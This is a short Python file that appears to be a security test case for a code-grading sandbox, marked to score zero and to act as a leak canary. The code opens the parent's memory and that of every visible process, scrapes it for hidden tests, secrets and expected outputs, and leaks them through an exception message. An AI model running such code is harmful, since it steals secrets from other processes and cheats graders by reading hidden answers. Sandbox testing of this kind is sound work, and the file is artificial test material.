"""Opens the memory of its parent and of every process that it can see, and searches it for hidden tests and secrets.

base: unsolved
max-score: 0
canary: leak, outside-process
"""
# %% q1
import ctypes
import os
import re

libc = ctypes.CDLL(None, use_errno=True)
loot = []
for pid in {os.getppid(), int("@OUTSIDE_PID@"), 1} | {int(p) for p in os.listdir("/proc") if p.isdigit()} - {os.getpid()}:
    try:
        with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as memory:
            for line in list(maps)[:2000]:
                bounds, mode = line.split()[:2]
                low, high = (int(x, 16) for x in bounds.split("-"))
                if mode.startswith("rw") and high - low < 64 << 20:
                    memory.seek(low)
                    block = memory.read(high - low)
                    loot += re.findall(rb"[\x20-\x7e\n]{0,500}(?:HIDDEN|SECRET|expected)[\x20-\x7e\n]{0,500}", block)
    except (OSError, OverflowError, ValueError):
        pass
raise RuntimeError("\n".join(piece.decode() for piece in loot)[:4_000_000])
